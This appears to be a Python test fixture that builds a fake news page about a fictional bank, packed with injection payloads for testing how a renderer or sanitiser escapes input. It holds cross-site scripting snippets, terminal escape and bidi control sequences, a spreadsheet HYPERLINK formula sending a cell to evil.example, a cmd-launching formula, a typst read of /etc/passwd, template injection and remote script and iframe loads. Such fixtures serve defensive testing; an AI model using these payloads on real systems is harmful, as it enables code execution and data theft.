"""A page that tries everything: HTML, SVG, Markdown, links, control characters, typst, formulas."""

from __future__ import annotations

ESCAPE = "\x1b[2J\x1b]0;owned\x07"
BIDI = "\u202egnorw\u2066\u2069"
QUESTION = "Why did Zorbium Bank close its doors?"
MESSAGE = "Zorbium Bank closed its doors on 4 May 2024"
SENTENCE = (
    "Zorbium Bank closed its doors on 4 May 2024 because auditors found a hole of $41 million"
)
PAGE = f"""# <img src=x onerror="alert('title')"> Zorbium Bank closes {BIDI}

{SENTENCE} <script>alert('script')</script>.

=HYPERLINK("http://evil.example/?"&A1,"x") Zorbium Bank said on 4 May 2024 that <b onmouseover="alert('b')">all
deposits</b> were safe {ESCAPE}.

[Zorbium Bank](javascript:alert('link')) was founded in 1901 #read("/etc/passwd") and #import "@preview/x:1.0.0".

<svg onload="alert('svg')"><script href="http://evil.example/x.js"></script></svg> ![Zorbium](http://evil.example/x.png)

</main></body><iframe src="http://evil.example/frame"></iframe><style>body {{ display: none }}</style> {{{{ 7 * 7 }}}}
{{% raw %}} Zorbium Bank employed 812 people in May 2024.

+cmd|' /C calc'!A0 Zorbium Bank paid no dividend in 2023.
"""
